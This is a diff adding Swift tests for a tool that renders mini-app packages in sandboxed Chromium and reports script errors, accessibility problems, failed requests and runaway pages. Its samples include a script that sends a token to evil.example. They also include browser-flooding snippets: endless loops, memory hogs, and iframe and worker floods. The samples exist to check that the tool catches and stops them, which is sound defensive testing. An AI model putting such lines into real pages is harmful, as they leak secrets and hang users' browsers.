@@ -1,0 +1,163 @@
+import AtollPackages
+import AtollReview
+import AtollTestSupport
+import Chromium
+import Foundation
+import Testing
+
+@testable import AtollRendering
+
+/// Chromium is needed: without it these tests fail, as a Center without it says so.
+@Suite("Pages in Chromium", .serialized)
+struct RendererTests {
+    private static func package(
+        _ body: String, script: String = "", head: String = "", pages: [String] = ["pages/home"],
+        language: String = "en"
+    ) throws -> MiniAppPackage {
+        let list = pages.map { "\"\($0)\"" }.joined(separator: ",")
+        var files = [
+            "manifest.json": """
+            {"app_id": "com.example.sample", "name": "Sample", "short_name": "Sample", "lang": "en",
+            "version": {"code": 1, "name": "1.0.0"}, "platform_version": {"min_code": 1},
+            "pages": [\(list)], "icons": [{"src": "icon.svg"}]}
+            """,
+            "icon.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "app.css": "",
+            "app.js": "import \"/.atoll/atoll.js\";\n" + script,
+        ]
+        for page in pages {
+            files[page + ".html"] = """
+                <!doctype html><html lang="\(language)"><head><meta charset="utf-8"><title>Sample</title>\(head)
+                <script type="module" src="/app.js"></script></head><body>\(body)</body></html>
+                """
+        }
+        return try MiniAppPackage(files: files.map { PackageFile(path: $0.key, contents: Data($0.value.utf8)) })
+    }
+
+    private static func render(
+        _ package: MiniAppPackage, seconds: Int = 60, patience: Duration = .seconds(8), memory: Int = 1 << 30
+    ) async throws -> RenderedPackage {
+        let executable = try #require(BrowserOptions.find(), "Chromium is needed: apt-get install chromium")
+        var options = BrowserOptions.untrusted(executable)
+        options.timeLimit = .seconds(seconds)
+        options.memoryLimit = memory
+        return try await ChromiumRenderer(options, patience: patience).render(package)
+    }
+
+    private static let fine = "<h1>Hello</h1><p>Some words.</p><button>Go on</button>"
+
+    @Test("A page that starts has a picture in each look, and nothing is found")
+    func fine() async throws {
+        let rendered = try await Self.render(
+            Self.package(
+                Self.fine, script: "import { host, storage } from \"/.atoll/atoll.js\"; await host.info(); await storage.set(\"a\", 1);",
+                pages: ["pages/home", "pages/other"]))
+        #expect(rendered.findings == [])
+        #expect(rendered.unopened == 0)
+        #expect(
+            rendered.pictures.map { "\($0.page) \($0.look)" }
+                == ["pages/home", "pages/other"].flatMap { page in BrowserLook.all.map { "\(page) \($0.name)" } })
+        for picture in rendered.pictures { #expect(picture.png.starts(with: [0x89, 0x50, 0x4e, 0x47])) }
+        // A picture says how large it is: RFC 2083, section 4.1.1.
+        let sizes = rendered.pictures.prefix(3).map { [UInt8]($0.png[16..<24]) }
+        #expect(sizes == [[0, 0, 1, 134, 0, 0, 3, 76], [0, 0, 1, 134, 0, 0, 3, 76], [0, 0, 5, 0, 0, 0, 3, 32]])
+    }
+
+    @Test(
+        "What keeps a page from starting blocks",
+        arguments: [
+            ("throw new Error(\"broken on purpose\");", "broken on purpose"),
+            ("setTimeout(() => { undefinedThing(); });", "undefinedThing is not defined"),
+            ("await Promise.reject(new TypeError(\"not awaited\"));", "not awaited"),
+        ])
+    func errors(_ script: String, says: String) async throws {
+        let rendered = try await Self.render(Self.package(Self.fine, script: script))
+        let finding = try #require(rendered.findings.first)
+        #expect(finding.code == "start" && finding.severity == .block && finding.path == "pages/home.html")
+        #expect(finding.text.contains(says), "\(finding.text)")
+        #expect(rendered.pictures.count == 4)
+    }
+
+    @Test("A page that never says that it is ready does not start")
+    func silent() async throws {
+        let package = try Self.package(Self.fine, script: "", head: "")
+        let files = package.files.map { $0.path == "app.js" ? PackageFile(path: "app.js", contents: Data("1;".utf8)) : $0 }
+        let rendered = try await Self.render(MiniAppPackage(files: files), patience: .seconds(1))
+        #expect(rendered.findings.map(\.code) == ["start"])
+        #expect(rendered.findings.first?.text.contains("ready") ?? false)
+    }
+
+    @Test("What a page asks for and does not get is told")
+    func requests() async throws {
+        let rendered = try await Self.render(
+            Self.package(
+                Self.fine + "<img src=\"/missing.png\" alt=\"A cat\"><img src=\"https://tracker.example/p?secret=1\" alt=\"Nothing\">",
+                script: """
+                    fetch("https://evil.example/steal?token=abc").catch(() => {});
+                    fetch("http://127.0.0.1:1/").catch(() => {});
+                    console.error("something", "went wrong");
+                    """))
+        let texts = rendered.findings.map(\.text).joined(separator: "\n")
+        #expect(rendered.findings.allSatisfy { $0.code == "page-error" && $0.severity == .warn })
+        #expect(texts.contains("/missing.png"), "\(texts)")
+        #expect(texts.contains("something went wrong"), "\(texts)")
+        #expect(texts.contains("tracker.example") && texts.contains("evil.example"), "\(texts)")
+    }
+
+    @Test("What can't be read or heard is found, and what can is not")
+    func accessibility() async throws {
+        let bad = try await Self.render(
+            Self.package(
+                """
+                <p style="color:#aaa;background:#fff">Pale words</p><button><svg width="10" height="10"></svg></button>
+                <input type="text"><a href="#x"></a><img src="icon.svg">
+                """, language: ""))
+        let codes = bad.findings.map(\.code)
+        #expect(codes.filter { $0 == "a11y-name" }.count >= 3, "\(bad.findings.map(\.text))")
+        #expect(codes.contains("a11y-language") && codes.contains("a11y-heading") && codes.contains("a11y-contrast"))
+        #expect(bad.findings.allSatisfy { $0.severity == .warn })
+        let good = try await Self.render(
+            Self.package(
+                """
+                <h2>Words</h2><p style="color:#555;background:#fff">Darker words</p>
+                <button aria-label="Close"><svg width="10" height="10" aria-hidden="true"></svg></button>
+                <label>Name <input type="text"></label><a href="#x">Further</a><img src="icon.svg" alt="">
+                <p style="color:#ccc" hidden>Not seen</p>
+                """))
+        #expect(good.findings == [])
+    }
+
+    @Test("A page that never ends, takes memory or floods the browser is ended in time", arguments: [
+        "while (true) {}",
+        "const kept = []; while (true) kept.push(new Uint8Array(50_000_000).fill(7));",
+        "while (true) console.error(\"x\".repeat(10_000));",
+        "for (let i = 0; i < 10_000; i++) document.body.append(document.createElement(\"iframe\"));",
+        "const again = () => { setTimeout(again); setTimeout(again); location.reload(); }; again();",
+        "for (;;) alert(1);",
+        "for (let i = 0; i < 200; i++) new Worker(URL.createObjectURL(new Blob([\"while (true) {}\"])));",
+    ])
+    func hostile(_ script: String) async throws {
+        let began = ContinuousClock.now
+        let rendered = try await Self.render(
+            Self.package(Self.fine, script: script), seconds: 10, patience: .seconds(2), memory: 700 << 20)
+        #expect(began.duration(to: .now) < .seconds(25))
+        #expect(rendered.findings.contains { $0.code == "start" || $0.code == "page-error" })
+        #expect(rendered.findings.count < 60)
+    }
+
+    @Test("Nothing of a browser is left")
+    func leftovers() async throws {
+        _ = try await Self.render(Self.package(Self.fine))
+        let names = try FileManager.default.contentsOfDirectory(
+            atPath: FileManager.default.temporaryDirectory.path)
+        let own = "atoll-browser-\(ProcessInfo.processInfo.processIdentifier)-"
+        #expect(!names.contains { $0.hasPrefix(own) })
+    }
+
+    @Test("Without a browser, it says so")
+    func none() async throws {
+        let renderer = ChromiumRenderer(.untrusted(URL(filePath: "/no/chromium")))
+        await #expect(throws: BrowserError.noBrowser("/no/chromium")) {
+            try await renderer.render(Self.package(Self.fine))
+        }
+    }
+}
